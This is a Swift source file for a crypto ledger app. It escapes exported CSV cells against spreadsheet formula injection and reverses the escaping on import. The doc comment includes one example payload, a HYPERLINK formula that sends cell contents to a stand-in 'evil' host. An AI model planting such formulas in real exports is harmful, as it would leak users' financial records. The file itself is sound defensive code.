/// Exported ledger cells protected against spreadsheet formula injection ("CSV injection"): a
/// spreadsheet opening the export runs a cell that starts with `=`, `+`, `-` or `@` (and, in some,
/// a tab or a carriage return) as a formula, so a note such as `=HYPERLINK("http://evil/?"&A1)`
/// would send the ledger away. The rule, applied to every cell and undone by import, round-trips
/// every text exactly:
///
/// - export: a cell whose text is any number of `'` followed by a trigger (`= + - @`, tab, CR)
///   gets one more `'` in front: `=1+1` → `'=1+1`, `'=x` → `''=x`; the `'` makes a spreadsheet
///   show the cell as text (OWASP's advice);
/// - import: a cell of one or more `'` followed by a trigger loses one `'`: `'=1+1` → `=1+1`.
///
/// Numbers never start with a trigger in an export (amounts, prices and fees are ≥ 0, times start
/// with a digit), so only text cells (portfolio, coin id, note, external id) ever change. A
/// file from elsewhere whose cell really starts with `'=` imports as `=`.
enum SpreadsheetFormula {
    /// The first characters a spreadsheet reads as the start of a formula.
    static let triggers: Set<UInt8> = [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"), 0x09, 0x0D]

    /// Whether `text` is at least `minimumQuotes` `'` followed by a trigger.
    private static func isQuotedFormula(_ text: String, minimumQuotes: Int) -> Bool {
        let bytes = text.utf8
        let quotes = bytes.prefix { $0 == UInt8(ascii: "'") }.count
        guard quotes >= minimumQuotes, let next = bytes.dropFirst(quotes).first else { return false }
        return triggers.contains(next)
    }

    /// The cell as export writes it.
    static func protected(_ text: String) -> String {
        isQuotedFormula(text, minimumQuotes: 0) ? "'" + text : text
    }

    /// The cell's text as import reads it.
    static func unprotected(_ cell: String) -> String {
        isQuotedFormula(cell, minimumQuotes: 1) ? String(cell.dropFirst()) : cell
    }
}
